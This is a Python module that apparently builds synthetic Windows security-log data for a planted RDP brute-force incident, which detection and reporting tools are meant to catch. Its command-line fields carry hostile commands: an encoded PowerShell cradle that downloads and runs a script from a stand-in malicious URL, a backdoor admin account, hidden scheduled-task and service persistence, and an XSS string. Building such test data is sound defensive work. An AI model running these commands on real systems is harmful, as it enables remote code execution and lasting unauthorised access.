"""Planted incident 1: RDP brute force on WKSTN-042, then `bob`'s account abused there.

Story: bob's workstation WKSTN-042 is reachable for RDP from the internet. From
203.0.113.77 an attacker tries 320 passwords for 24 account names in 20 minutes
(4625, logon type 10), gets in as bob (4624 type 10), creates a local account
`svc_backup`, adds it to Administrators, leaves a scheduled task and a service, and
runs PowerShell with an encoded download cradle. One command line carries
`<script>alert("nbcatalog")</script>`: attacker-controlled text that any report must
show as text.

The incident does not depend on the seed or the scale: only on the anchor time.

Example:
    >>> import pandas as pd
    >>> frames = rdp_incident(pd.Timestamp("2026-01-10T12:00:00Z"))
    >>> int((frames["SecurityEvent"]["EventID"] == 4625).sum()) >= 300
    True
"""

from __future__ import annotations

import base64

import numpy as np
import pandas as pd

from nbcatalog.data.demo.estate import (
    ATTACKER_RDP_IP,
    DOMAIN,
    MALICIOUS_URL,
    TENANT_ID,
    USERS_BY_NAME,
)
from nbcatalog.data.demo.timeline import hex_ids
from nbcatalog.data.demo.winevents import security_frame

HOST = "WKSTN-042"
ATTACKER_WORKSTATION = "WIN-R8J3KD2LQ0P"
TRIED_ACCOUNTS = (
    "administrator admin user test guest support scanner backup sql ftp helpdesk it "
    "reception office user1 test1 demo kiosk operator public remote temp owner bob"
).split()
FAILURES = 320
BRUTE_MINUTES = 20
LOGON_ID = "0x5a3f1c2"
SCRIPT_TEXT = '<script>alert("nbcatalog")</script>'
NEW_ACCOUNT = "svc_backup"
NEW_ACCOUNT_SID = "S-1-5-21-1004336348-1177238915-682003330-1009"
TASK_NAME = "\\Microsoft\\Windows\\UpdateCheck"
SERVICE_NAME = "UpdaterSvc"
SERVICE_FILE = "C:\\ProgramData\\Updater\\updater.exe"

_SYS32 = "C:\\Windows\\System32\\"
_PS = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"


def encoded_command() -> str:
    """The attacker's download cradle as PowerShell -EncodedCommand text (UTF-16LE base64)."""
    script = f"IEX (New-Object Net.WebClient).DownloadString('{MALICIOUS_URL}')"
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def _failures(t0: pd.Timestamp) -> pd.DataFrame:
    rng = np.random.default_rng(4625)  # fixed: identical for every seed and scale
    offsets = np.sort(rng.random(FAILURES)) * BRUTE_MINUTES * 60
    # Every name is tried; the rest are drawn at random, in random order.
    names = np.array(
        TRIED_ACCOUNTS + list(rng.choice(TRIED_ACCOUNTS, FAILURES - len(TRIED_ACCOUNTS))),
        dtype=object,
    )
    rng.shuffle(names)
    is_bob = names == "bob"
    return security_frame(
        4625,
        t0 + pd.to_timedelta(offsets, unit="s"),
        HOST,
        {
            "SubjectUserSid": "S-1-0-0",
            "SubjectUserName": "-",
            "SubjectDomainName": "-",
            "SubjectLogonId": "0x0",
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": names,
            "TargetDomainName": np.where(is_bob, DOMAIN, "").astype(object),
            "Status": "0xc000006d",
            "FailureReason": "%%2313",
            # 0xc0000064: no such user; 0xc000006a: right user, wrong password.
            "SubStatus": np.where(is_bob, "0xc000006a", "0xc0000064").astype(object),
            "LogonType": "10",
            "LogonProcessName": "User32 ",
            "AuthenticationPackageName": "Negotiate",
            "WorkstationName": ATTACKER_WORKSTATION,
            "TransmittedServices": "-",
            "LmPackageName": "-",
            "KeyLength": "0",
            "ProcessId": "0x3c4",
            "ProcessName": _SYS32 + "svchost.exe",
            "IpAddress": ATTACKER_RDP_IP,
            "IpPort": rng.integers(49152, 65535, FAILURES).astype(str).astype(object),
        },
    )


def _bob_subject() -> dict[str, str]:
    bob = USERS_BY_NAME["bob"]
    return {
        "SubjectUserSid": bob.sid,
        "SubjectUserName": bob.name,
        "SubjectDomainName": DOMAIN,
        "SubjectLogonId": LOGON_ID,
    }


def _success(t: pd.Timestamp) -> list[pd.DataFrame]:
    bob = USERS_BY_NAME["bob"]
    logon = security_frame(
        4624,
        [t],
        HOST,
        {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": f"{HOST}$",
            "SubjectDomainName": DOMAIN,
            "SubjectLogonId": "0x3e7",
            "TargetUserSid": bob.sid,
            "TargetUserName": bob.name,
            "TargetDomainName": DOMAIN,
            "TargetLogonId": LOGON_ID,
            "LogonType": "10",
            "LogonProcessName": "User32 ",
            "AuthenticationPackageName": "Negotiate",
            "WorkstationName": ATTACKER_WORKSTATION,
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "TransmittedServices": "-",
            "LmPackageName": "-",
            "KeyLength": "0",
            "ProcessId": "0x3c4",
            "ProcessName": _SYS32 + "svchost.exe",
            "IpAddress": ATTACKER_RDP_IP,
            "IpPort": "51873",
            "ImpersonationLevel": "%%1833",
            "RestrictedAdminMode": "%%1843",
            "TargetOutboundUserName": "-",
            "TargetOutboundDomainName": "-",
            "VirtualAccount": "%%1843",
            "TargetLinkedLogonId": "0x0",
            "ElevatedToken": "%%1842",
        },
    )
    privileges = security_frame(
        4672,
        [t],
        HOST,
        {**_bob_subject(), "PrivilegeList": "SeSecurityPrivilege\n\t\t\tSeDebugPrivilege"},
    )
    return [logon, privileges]


# (minutes after the logon, parent image, image, command line)
def _commands() -> list[tuple[float, str, str, str]]:
    enc = encoded_command()
    return [
        (0.5, _SYS32 + "svchost.exe", _SYS32 + "rdpclip.exe", "rdpclip"),
        (1.0, _SYS32 + "userinit.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
        (2.0, "C:\\Windows\\explorer.exe", _SYS32 + "cmd.exe", f'"{_SYS32}cmd.exe" '),
        (2.5, _SYS32 + "cmd.exe", _SYS32 + "whoami.exe", "whoami  /all"),
        (3.0, _SYS32 + "cmd.exe", _SYS32 + "net.exe", "net  localgroup administrators"),
        (4.0, _SYS32 + "cmd.exe", _SYS32 + "net.exe", f"net  user {NEW_ACCOUNT} Backup#2026! /add"),
        (
            4.5,
            _SYS32 + "cmd.exe",
            _SYS32 + "net.exe",
            f"net  localgroup administrators {NEW_ACCOUNT} /add",
        ),
        (
            6.0,
            _SYS32 + "cmd.exe",
            _SYS32 + "schtasks.exe",
            f'schtasks  /create /tn "{TASK_NAME}" /tr "{_PS} -w hidden -enc {enc}" '
            "/sc onlogon /ru SYSTEM /f",
        ),
        (
            7.0,
            _SYS32 + "cmd.exe",
            _SYS32 + "sc.exe",
            f'sc  create {SERVICE_NAME} binPath= "{SERVICE_FILE}" start= auto',
        ),
        (8.0, _SYS32 + "cmd.exe", _PS, f"powershell.exe  -nop -w hidden -enc {enc}"),
        (
            9.0,
            _SYS32 + "cmd.exe",
            _SYS32 + "cmd.exe",
            f"cmd.exe /c echo {SCRIPT_TEXT} > C:\\Users\\Public\\index.html",
        ),
        (10.0, _SYS32 + "cmd.exe", _SYS32 + "ipconfig.exe", "ipconfig  /all"),
    ]


def _processes(t: pd.Timestamp) -> pd.DataFrame:
    cmds = _commands()
    pids = hex_ids(np.arange(len(cmds)) * 4 + 0x2210)
    parents = hex_ids(np.arange(len(cmds)) * 4 + 0x1F00)
    return security_frame(
        4688,
        [t + pd.Timedelta(minutes=m) for m, *_ in cmds],
        HOST,
        {
            **_bob_subject(),
            "NewProcessId": pids,
            "NewProcessName": [c[2] for c in cmds],
            "TokenElevationType": "%%1937",
            "ProcessId": parents,
            "CommandLine": [c[3] for c in cmds],
            "TargetUserSid": "S-1-0-0",
            "TargetUserName": "-",
            "TargetDomainName": "-",
            "TargetLogonId": "0x0",
            "ParentProcessName": [c[1] for c in cmds],
            "MandatoryLabel": "S-1-16-12288",
        },
    )


def _account_changes(t: pd.Timestamp) -> list[pd.DataFrame]:
    created = security_frame(
        4720,
        [t + pd.Timedelta(minutes=4, seconds=1)],
        HOST,
        {
            "TargetUserName": NEW_ACCOUNT,
            "TargetDomainName": HOST,
            "TargetSid": NEW_ACCOUNT_SID,
            **_bob_subject(),
            "PrivilegeList": "-",
            "SamAccountName": NEW_ACCOUNT,
            "DisplayName": "%%1793",
            "UserPrincipalName": "-",
            "HomeDirectory": "%%1793",
            "HomePath": "%%1793",
            "ScriptPath": "%%1793",
            "ProfilePath": "%%1793",
            "UserWorkstations": "%%1793",
            "PasswordLastSet": "%%1794",
            "AccountExpires": "%%1794",
            "PrimaryGroupId": "513",
            "AllowedToDelegateTo": "-",
            "OldUacValue": "0x0",
            "NewUacValue": "0x15",
            "UserAccountControl": "%%2080 %%2082 %%2084",
            "UserParameters": "%%1793",
            "SidHistory": "-",
            "LogonHours": "%%1797",
        },
    )
    added = security_frame(
        4732,
        [t + pd.Timedelta(minutes=4, seconds=31)],
        HOST,
        {
            "MemberName": "-",
            "MemberSid": NEW_ACCOUNT_SID,
            "TargetUserName": "Administrators",
            "TargetDomainName": "Builtin",
            "TargetSid": "S-1-5-32-544",
            **_bob_subject(),
            "PrivilegeList": "-",
        },
    )
    task_xml = (
        '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
        'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers>'
        "<LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers><Actions "
        f'Context="Author"><Exec><Command>{_PS}</Command><Arguments>-w hidden -enc '
        f"{encoded_command()}</Arguments></Exec></Actions></Task>"
    )
    task = security_frame(
        4698,
        [t + pd.Timedelta(minutes=6, seconds=1)],
        HOST,
        {**_bob_subject(), "TaskName": TASK_NAME, "TaskContent": task_xml},
    )
    service = security_frame(
        4697,
        [t + pd.Timedelta(minutes=7, seconds=1)],
        HOST,
        {
            **_bob_subject(),
            "ServiceName": SERVICE_NAME,
            "ServiceFileName": SERVICE_FILE,
            "ServiceType": "0x10",
            "ServiceStartType": "2",
            "ServiceAccount": "LocalSystem",
        },
    )
    return [created, added, task, service]


def _logoff(t: pd.Timestamp) -> pd.DataFrame:
    bob = USERS_BY_NAME["bob"]
    return security_frame(
        4634,
        [t + pd.Timedelta(minutes=31)],
        HOST,
        {
            "TargetUserSid": bob.sid,
            "TargetUserName": bob.name,
            "TargetDomainName": DOMAIN,
            "TargetLogonId": LOGON_ID,
            "LogonType": "10",
        },
    )


def _system_events(t: pd.Timestamp) -> pd.DataFrame:
    """The service install as the System channel records it (7045), plus Sysmon's view."""
    svc_time = t + pd.Timedelta(minutes=7, seconds=1)
    ps_time = t + pd.Timedelta(minutes=8)
    svc_xml = (
        "<EventData>"
        f'<Data Name="ServiceName">{SERVICE_NAME}</Data>'
        f'<Data Name="ImagePath">{SERVICE_FILE}</Data>'
        '<Data Name="ServiceType">user mode service</Data>'
        '<Data Name="StartType">auto start</Data>'
        '<Data Name="AccountName">LocalSystem</Data>'
        "</EventData>"
    )
    rows = [
        {
            "TimeGenerated": svc_time,
            "Source": "Service Control Manager",
            "EventLog": "System",
            "EventLevel": 4,
            "EventLevelName": "Information",
            "EventID": 7045,
            "EventCategory": 0,
            "UserName": f"{DOMAIN}\\bob",
            "EventData": svc_xml,
            "ParameterXml": (
                f"<Param>{SERVICE_NAME}</Param><Param>{SERVICE_FILE}</Param>"
                "<Param>user mode service</Param><Param>auto start</Param>"
                "<Param>LocalSystem</Param>"
            ),
            "RenderedDescription": (
                "A service was installed in the system. Service Name:  "
                f"{SERVICE_NAME} Service File Name:  {SERVICE_FILE} Service Type:  "
                "user mode service Service Start Type:  auto start Service Account:  "
                "LocalSystem"
            ),
        },
        {
            "TimeGenerated": ps_time,
            "Source": "Microsoft-Windows-Sysmon",
            "EventLog": "Microsoft-Windows-Sysmon/Operational",
            "EventLevel": 4,
            "EventLevelName": "Information",
            "EventID": 22,
            "EventCategory": 22,
            "UserName": f"{DOMAIN}\\bob",
            "EventData": (
                '<EventData><Data Name="RuleName">-</Data>'
                f'<Data Name="Image">{_PS}</Data>'
                '<Data Name="QueryName">malicious.example</Data>'
                '<Data Name="QueryStatus">0</Data>'
                '<Data Name="QueryResults">::ffff:192.0.2.66;</Data></EventData>'
            ),
            "RenderedDescription": "Dns query: QueryName: malicious.example",
        },
    ]
    frame = pd.DataFrame(rows)
    frame["TenantId"] = TENANT_ID
    frame["SourceSystem"] = "OpsManager"
    frame["Computer"] = HOST
    return frame


def rdp_incident(t0: pd.Timestamp) -> dict[str, pd.DataFrame]:
    """All rows of the RDP incident; the brute force starts at `t0`."""
    success_at = t0 + pd.Timedelta(minutes=BRUTE_MINUTES + 1)
    frames = [_failures(t0), *_success(success_at), _processes(success_at)]
    frames += _account_changes(success_at)
    frames.append(_logoff(success_at))
    return {
        "SecurityEvent": pd.concat(frames, ignore_index=True),
        "Event": _system_events(success_at),
    }
